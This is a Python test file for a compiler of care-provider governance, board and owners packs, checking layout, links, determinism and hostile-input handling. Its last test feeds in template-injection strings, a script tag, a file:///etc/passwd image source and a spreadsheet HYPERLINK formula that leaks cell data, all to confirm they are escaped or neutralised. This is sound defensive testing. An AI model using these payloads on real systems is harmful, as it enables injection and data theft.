"""The governance, board and owners packs end to end: files, sections, pages, links, determinism, hostile text."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import zipfile
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from click.testing import CliRunner
from lxml import etree
from pypdf import PdfReader

from compiler import pipeline
from compiler.cli import cli

ROOT = Path(__file__).resolve().parents[2]
PLANS = ROOT / "examples" / "plans"
EVIDENCE = ROOT / "examples" / "evidence"
AS_OF = dt.date(2026, 11, 20)
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def build(name: str, out: Path, plans: Path = PLANS, evidence: Path = EVIDENCE) -> Path:
    folder, _ = pipeline.build([plans], evidence, name, as_of=AS_OF, out=out)
    return folder


@pytest.fixture(scope="module")
def packs(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("other")
    return {name: build(name, root / name) for name in ("governance", "board", "owners")}


def pdf_pages(path: Path) -> list[str]:
    doc = pdfium.PdfDocument(str(path))
    return [doc[i].get_textpage().get_text_range() for i in range(len(doc))]


def flat(text: str) -> str:
    return re.sub(r"\s+", " ", text)


def docx_root(path: Path):
    with zipfile.ZipFile(path) as archive:
        return etree.fromstring(archive.read("word/document.xml"))


def assert_well_formed_pdf(path: Path) -> list[str]:
    texts = pdf_pages(path)
    for n, text in enumerate(texts, 1):
        assert f"page {n} of {len(texts)}" in text
        assert text.count("OFFICIAL-SENSITIVE") >= 2      # top and bottom stamp on every page
    reader = PdfReader(str(path))
    box = reader.pages[0].mediabox
    assert (round(float(box.width)), round(float(box.height))) == (595, 842)   # A4
    assert "/Author" not in (reader.metadata or {})
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            annot = annot.get_object()
            if annot.get("/Subtype") == "/Link":
                assert "/A" not in annot, "an unresolved link is left"
                assert reader.get_page_number(annot["/Dest"][0].get_object()) is not None
    return texts


def assert_docx_links_resolve(path: Path) -> None:
    root = docx_root(path)
    bookmarks = {b.get(f"{W}name") for b in root.iter(f"{W}bookmarkStart")}
    anchors = [h.get(f"{W}anchor") for h in root.iter(f"{W}hyperlink") if h.get(f"{W}anchor")]
    assert anchors and set(anchors) <= bookmarks
    text = "".join(t.text or "" for t in root.iter(f"{W}t"))
    assert "{{" not in text and "{%" not in text


def test_governance_pack(packs) -> None:
    folder = packs["governance"]
    assert sorted(p.name for p in folder.iterdir()) == ["governance-pack.docx", "governance-pack.pdf",
                                                         "manifest.json"]
    body = flat(" ".join(assert_well_formed_pdf(folder / "governance-pack.pdf")))
    for heading in ("Actions due for governance review", "Proposed closures", "Declared and assessed RAG disagree",
                    "Overdue actions", "Challenge questions", "Waivers"):
        assert heading in body
    assert ("RH-02 is declared green but has 1 of the 2 supervision records it requires: "
            "what shows coaching changed practice?") in body
    assert "RQ-04 was due on 31 October and is still in progress" in body
    assert "Risk indicators improved over time" in body and "indicators-oakview-restrictive-interventions" in body
    assert_docx_links_resolve(folder / "governance-pack.docx")
    words = flat(" ".join(t.text or "" for t in docx_root(folder / "governance-pack.docx").iter(f"{W}t")))
    assert "what shows coaching changed practice?" in words


def test_governance_contents_pages_match_the_headings(packs) -> None:
    texts = pdf_pages(packs["governance"] / "governance-pack.pdf")
    contents = flat(texts[0])
    for heading in ("Proposed closures", "Overdue actions", "Challenge questions"):
        page = int(re.search(re.escape(heading) + r" \(\d+\) (\d+)", contents).group(1))
        assert heading in texts[page - 1] if page > 1 else contents.count(heading) >= 2


def test_board_pack_is_two_to_four_pages_of_every_plan(packs) -> None:
    folder = packs["board"]
    texts = assert_well_formed_pdf(folder / "board-pack.pdf")
    assert 2 <= len(texts) <= 4
    body = flat(" ".join(texts))
    # the high-risk plan in full; the medium-risk ones by exception, after it (tests/packs/test_scope.py)
    others = body.index("Other plans, by exception")
    assert body.index("SAP-2026-007") < others < body.index("SAP-2026-011") and body.index("SAP-2026-014") > others
    for words in ("Reasonable assurance", "Assurance: Substantial =", "Exceptions", "Trends",
                  "Line of sight", "Section 42 enquiry LA-2026-0042", "Sustained?"):
        assert words in body
    assert_docx_links_resolve(folder / "board-pack.docx")
    with zipfile.ZipFile(folder / "board-pack.docx") as archive:
        assert [n for n in archive.namelist() if n.startswith("word/media/")]     # the trend chart


def test_owners_pack_has_one_pair_per_owner_and_gaps_csv(packs) -> None:
    folder = packs["owners"]
    files = sorted(p.name for p in (folder / "owners").iterdir())
    stems = sorted({f.rsplit(".", 1)[0] for f in files})
    assert files == sorted(f"{s}.{ext}" for s in stems for ext in ("docx", "pdf"))
    assert {"aisha-rahman", "marcus-bell", "priya-shah", "tom-hughes", "unassigned"} <= set(stems)
    unassigned = flat(" ".join(assert_well_formed_pdf(folder / "owners" / "unassigned.pdf")))
    assert "RH-04" in unassigned and "On-call team" in unassigned and "SG201" in unassigned
    aisha = flat(" ".join(pdf_pages(folder / "owners" / "aisha-rahman.pdf")))
    assert "RH-02" in aisha and "What evidence is missing" in aisha and "31 December 2026" in aisha
    assert "RH-01" not in aisha
    assert_docx_links_resolve(folder / "owners" / "aisha-rahman.docx")
    raw = (folder / "gaps.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert any(r[1] == "RH-02" and "supervision" in r[5] and "1 more supervision record" in r[6] for r in rows)
    assert rows[1:] == sorted(rows[1:], key=lambda r: (r[0] == "Unassigned", r[0].casefold(), r[1], r[5], r[6], r[7]))


def test_two_builds_are_byte_identical_and_the_cli_builds_them(packs, tmp_path) -> None:
    for name in ("board", "owners"):
        out = tmp_path / name
        result = CliRunner().invoke(cli, ["build", str(PLANS), "--evidence", str(EVIDENCE), "--pack", name,
                                          "--as-of", "2026-11-20", "--out", str(out)], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        first = {p.relative_to(packs[name]): p.read_bytes() for p in packs[name].rglob("*") if p.is_file()}
        second = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
        assert first.keys() == second.keys()
        for key in first:
            assert first[key] == second[key], key


HOSTILE = '{{ config }} {% for x in y %} <script>alert(1)</script> <img src="file:///etc/passwd">'
HOSTILE_PLAN = f"""\
format: sgpack/plan@1
provider: Example Care Ltd
plan:
  id: SAP-2026-099
  title: "Night checks {{{{ config }}}} <b>bold</b>"
  service: Oakview
  origin: '{HOSTILE}'
  risk: high
  opened: 2026-06-01
actions:
  - id: NC-01
    title: '=HYPERLINK("http://x/?d="&A1,"click")'
    kind: oversight
    owner: Priya Shah (Registered Manager)
    due: 2026-12-31
    status: in_progress
    rag: green
    narrative: '{HOSTILE}'
    requires:
      - type: audit
        count: 2
"""


def test_hostile_text_prints_as_typed_and_csv_cells_are_neutralised(tmp_path) -> None:
    plans = tmp_path / "plans"
    evidence = tmp_path / "evidence"
    plans.mkdir()
    (plans / "hostile.yaml").write_text(HOSTILE_PLAN)
    (evidence / "audits").mkdir(parents=True)
    (evidence / "audits" / "2026-07-01 night check audit.md").write_text(f"# Night check audit\n\nNC-01. {HOSTILE}\n")
    owners = build("owners", tmp_path / "owners", plans, evidence)
    body = flat(" ".join(pdf_pages(owners / "owners" / "priya-shah.pdf")))
    for text in ("{{ config }}", "{% for x in y %}", "<script>alert(1)</script>", '<img src="file:///etc/passwd">',
                 '=HYPERLINK("http://x/?d="&A1,"click")'):
        assert text in body, text
    document = zipfile.ZipFile(owners / "owners" / "priya-shah.docx").read("word/document.xml").decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in document and "root:x:0" not in document
    rows = list(csv.reader(io.StringIO((owners / "gaps.csv").read_bytes().decode("utf-8-sig"))))
    for row in rows[1:]:
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row), row
    board = build("board", tmp_path / "board", plans, evidence)
    body = flat(" ".join(pdf_pages(board / "board-pack.pdf")))
    assert "<script>alert(1)</script>" in body and "Night checks {{ config }} <b>bold</b>" in body
    governance = build("governance", tmp_path / "governance", plans, evidence)
    body = re.sub(r"\s", "", " ".join(pdf_pages(governance / "governance-pack.pdf")))
    assert '=HYPERLINK("http://x/?d="&A1,"click")' in body      # long words may wrap mid-word in a cell
    shutil.rmtree(tmp_path / "plans")
